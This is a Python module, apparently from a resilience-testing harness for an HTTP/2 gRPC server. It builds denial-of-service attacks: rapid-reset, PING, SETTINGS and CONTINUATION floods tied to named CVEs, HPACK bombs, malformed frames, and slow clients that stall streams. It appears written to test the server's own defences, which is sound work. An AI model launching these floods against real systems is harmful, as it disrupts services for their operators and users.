# SPDX-License-Identifier: Apache-2.0
"""What HTTP/2 lets a client do that means ill, one connection after another, and clients that take
no answers. They are for `attacker.Attack`, and by themselves for what the server answers."""
import contextlib
import pathlib
import struct
import sys
import time

sys.path.append(str(pathlib.Path(__file__).resolve().parents[1] / "Python"))
import http2_frames as http2  # noqa: E402
from http2_frames import Connection, frame  # noqa: E402

CHECK = "/grpc.health.v1.Health/Check"
STREAM = "/loan_default.v1.LoanDefault/PredictStream"
# Frames of a flood: more than the server bears at once, and than it lets through in the time of
# the flood.
FLOOD = 3_000
# Frames of one write.
PART = 100
# What a stream may send of its own accord.
WINDOW_BYTES = 1 << 20


def resets(connection):
    """Requests that are reset at once (CVE-2023-44487)."""
    for _ in range(PART):
        stream = next(connection.ids)
        yield (frame(http2.HEADERS, http2.END_HEADERS, stream, http2.fields(CHECK))
               + frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL)))


def pings(connection):
    """PING, each of which asks for an answer (CVE-2019-9512)."""
    yield PART * frame(http2.PING, payload=bytes(8))


def settings(connection):
    """SETTINGS, likewise (CVE-2019-9515)."""
    yield PART * frame(http2.SETTINGS)


def empty_data(connection):
    """DATA without bytes (CVE-2019-9518)."""
    stream = next(connection.ids)
    yield frame(http2.HEADERS, http2.END_HEADERS, stream, http2.fields(CHECK))
    yield PART * frame(http2.DATA, 0, stream)


def continuations(connection):
    """A list of fields that does not come to an end (CVE-2024-27316)."""
    stream = next(connection.ids)
    yield frame(http2.HEADERS, 0, stream, http2.fields(CHECK))
    for index in range(PART):
        yield frame(http2.CONTINUATION, 0, stream, http2.literal(f"x-{index}", "v"))


def bombs(connection, count=10_000):
    """A field of 3 kB that the same call and the next ones name `count` times, by a byte each."""
    value = http2.literal("x-bomb", "b" * 3_000, 0x40)
    for _ in range(PART // 10):
        stream = next(connection.ids)
        # 62 is the newest entry of the table, and 0x80 the mark of an index.
        yield frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
                    http2.fields(CHECK) + value + bytes([0x80 | 62]) * count)
        value = b""


def garbage(connection):
    """Bytes that are no frames."""
    yield b"\xff" * 4_096


def cut(connection):
    """A message that ends with its stream, before its length says; and one that the connection
    ends with."""
    for ends in [http2.END_STREAM, 0]:
        stream = next(connection.ids)
        yield (frame(http2.HEADERS, http2.END_HEADERS, stream, http2.fields(CHECK))
               + frame(http2.DATA, ends, stream, b"\0\0\0\x10\0" + bytes(100)))


FLOODS = {
    "resets": resets, "pings": pings, "settings": settings, "empty data": empty_data,
    "continuations": continuations, "HPACK bombs": bombs, "garbage": garbage,
    "cut messages": cut,
}
# Of these, a connection is good for one: it is the next one that costs.
SINGLE = {garbage, cut}


def flood(connection, kind):
    """Sends a flood until it is done or the server has enough."""
    with contextlib.suppress(ConnectionError):
        for _ in range(1 if kind in SINGLE else FLOOD // PART):
            connection.send(b"".join(kind(connection)))


def flooding(kind):
    """An attack: a flood on a connection of its own, `amount` times a second."""
    def act(port, amount, running, count):
        start = time.monotonic()
        while running.is_set():
            if count.value < (time.monotonic() - start) * amount:
                with Connection(port) as connection:
                    flood(connection, kind)
                count.value += 1
            else:
                time.sleep(0.001)
    return act


def stalling(batch):
    """An attack: `amount` streams, on a connection each, that send batches as far as the server
    takes them and take no answers."""
    def act(port, amount, running, count):
        connections = []
        while running.is_set():
            if len(connections) == amount:
                time.sleep(0.01)
                continue
            connection = Connection(port, initial_window_size=0)
            connections.append(connection)
            stall(connection, batch)
            count.value = len(connections)
        for connection in connections:
            connection.close()
    return act


def stall(connection, batch, most=WINDOW_BYTES):
    """Sends batches whose answers nobody takes, as far as the server takes them and with `most`
    bytes at most."""
    stream = connection.begin(STREAM)
    body = http2.message(batch)
    for _ in range(most // len(body)):
        if not connection.send_data(stream, body, ends=False, patience=0.3):
            return
